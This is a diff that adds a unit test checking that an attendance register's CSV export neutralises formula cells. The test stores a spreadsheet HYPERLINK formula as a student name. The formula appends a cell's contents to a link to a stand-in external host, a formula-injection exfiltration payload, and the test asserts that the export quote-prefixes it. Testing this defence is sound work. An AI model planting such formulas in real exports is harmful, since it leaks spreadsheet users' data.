@@ -605,6 +605,20 @@ def test_monthly_register_json_and_csv(cast, att, api, month_of_marks):
     )
 
 
+def test_register_csv_neutralises_formula_cells(cast, att, api):
+    formula = '=HYPERLINK("https://x.example/?"&A2,"Report")'
+    cast.student.user.full_name = formula
+    cast.student.user.save()
+    month = att.day.strftime("%Y-%m")
+    r = api(cast.admin).get(
+        "/api/v1/attendance/register.csv", {"section": att.sec_a.pk, "month": month}
+    )
+    assert r.status_code == 200, r.content
+    table = list(csv.reader(io.StringIO(r.content.decode())))
+    assert table[2][:2] == ["1", "'" + formula]
+    assert table[3][:2] == ["2", "Oscar Other"]
+
+
 def test_not_taken(cast, att, api):
     url = "/api/v1/attendance/not-taken/"
     r = api(cast.admin).get(url, {"date": att.day})
